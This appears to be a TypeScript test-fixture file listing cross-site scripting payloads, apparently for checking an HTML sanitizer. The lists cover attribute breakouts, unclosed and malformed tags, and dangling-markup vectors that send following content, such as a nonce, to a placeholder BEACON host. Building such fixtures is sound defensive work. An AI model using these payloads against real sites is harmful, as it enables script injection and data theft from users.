import { combineEach, type Vector } from "../fragment.ts";

/** Text that could end an attribute value, in each attribute with text. */
const breakouts = [
  ...combineEach(
    [
      `<a href="FRIEND@">x</a>`,
      `<img alt="@" src=FRIEND>`,
      `<code class="language-@">x</code>`,
      `<table><td colspan="2@">x</td></table>`,
    ],
    [
      `" onmouseover="RUN`,
      `"><img src=x: onerror=RUN><b x="`,
      `"><script>RUN</script>`,
      `&quot; onmouseover=&quot;RUN`,
      `\\" onmouseover=\\"RUN`,
    ],
  ),
  ...combineEach(
    [`<a href='FRIEND@'>x</a>`, `<abbr title='@'>x</abbr>`, `<img width='9@' src=FRIEND>`],
    [
      `' onmouseover='RUN`,
      `'><svg onload=RUN><b x='`,
      `&#39; onmouseover=&#39;RUN`,
      `\\'><script>RUN</script>`,
    ],
  ),
  ...combineEach(
    [`<a href=FRIEND@>x</a>`, `<ol start=2@><li>x</ol>`],
    [` onmouseover=RUN `, `\tonmouseover=RUN`, `><svg onload=RUN>`, `&#32;onmouseover=RUN`],
  ),
];

/** Tags that are not closed, and end tags without a start tag. */
const unclosed: Vector[] = [
  `<img src=x: onerror=RUN`,
  `<img src=x: onerror=RUN <`,
  `<img src="x: onerror=RUN>`,
  `<img src='x:' onerror="RUN`,
  `<img src=x: onerror=RUN//`,
  `<script`,
  `<script>RUN`,
  `<script src=BEACON`,
  `<svg onload=RUN`,
  `<iframe src=BEACON`,
  `<iframe srcdoc="<script>RUN</script>`,
  `<body onload=RUN`,
  `<a href="javascript:RUN`,
  `<a href=javascript:RUN`,
  `<style>`,
  `<style><!--`,
  `<title>`,
  `<textarea>`,
  `<plaintext>`,
  `<xmp>`,
  `<noscript>`,
  `<template>`,
  `<select>`,
  `<table>`,
  `<svg>`,
  `<math>`,
  `<!--`,
  `<![CDATA[`,
  `<?`,
  `<p title="`,
  `<p title='`,
  `<`,
  `</`,
  `</p`,
].map((piece) => (piece.includes("RUN") ? piece : `<img src=x: onerror=RUN>${piece}`));

/** Open quotes that would include the following markup, for example a nonce, in an attribute. */
const dangling: Vector[] = [
  `<script src="data:text/javascript,RUN" x="`,
  `<script src='data:text/javascript,RUN' x='`,
  `<script src=data:text/javascript,RUN x=`,
  `<script src="data:text/javascript,RUN" `,
  `<script src=BEACON a=`,
  `<script src=BEACON <script `,
  `<script>RUN;/*`,
  "<script>RUN;`",
  `<script>RUN;"`,
  `<script nonce="x" src="BEACON" y='`,
  `<form method=post action="http:BEACON"><input type=submit><textarea name=x>`,
  `<form method=post action="http:BEACON"><button>x</button><select name=x><option>`,
  `<button form=x formaction="http:BEACON"><form id=x method=post>`,
  `<iframe src="http:BEACON" name="`,
  `<a href="http:BEACON"><base target='`,
  `<link rel=stylesheet href="http:BEACON?`,
  `<meta http-equiv=refresh content="0;url=http:BEACON?`,
  `<object data="http:BEACON?`,
  `<embed src='http:BEACON?`,
];

const closing = combineEach(
  [`@<img src=x: onerror=RUN>`, `@<script>RUN</script>`, `@<p onclick=RUN>x</p>`],
  [
    "</div></div></li></ol></article></main>",
    "</p></div></section></body></html>",
    "</script></style></title></textarea></noscript>",
    "</svg></math></template></table></select>",
    "</body><body onload=RUN>",
    "--></script>",
  ],
);

const torn: Vector[] = [
  `<<img src=x: onerror=RUN>>`,
  `<><img src=x: onerror=RUN>`,
  `< img src=x: onerror=RUN><img src=x: onerror=RUN>`,
  `<im<img src=x: onerror=RUN>g>`,
  `<p<img src=x: onerror=RUN>`,
  `<img<img src=x: onerror=RUN>>`,
  `<img src=x: onerror=RUN</p>`,
  `<img """><script>RUN</script>">`,
  `<p><img src=x: onerror=RUN/></p`,
  `<IMG """><b onmouseover=RUN>">x`,
  `<img src=">" onerror=RUN>`,
  `<img src='>' onerror='RUN'>`,
  `<p x="<script>" y="<img src=x: onerror=RUN>">x<img src=x: onerror=RUN>`,
  `<p style="x" <img src=x: onerror=RUN>`,
  `<b <script>RUN</script>0>x`,
  `<a<b>href=javascript:RUN>x</a><a href=javascript:RUN>x</a>`,
  `<img onerror=RUN src=x: ></img onerror=RUN>`,
  `<input value="><script>RUN</script>`,
];

export const broken: Vector[] = [...breakouts, ...unclosed, ...dangling, ...closing, ...torn];
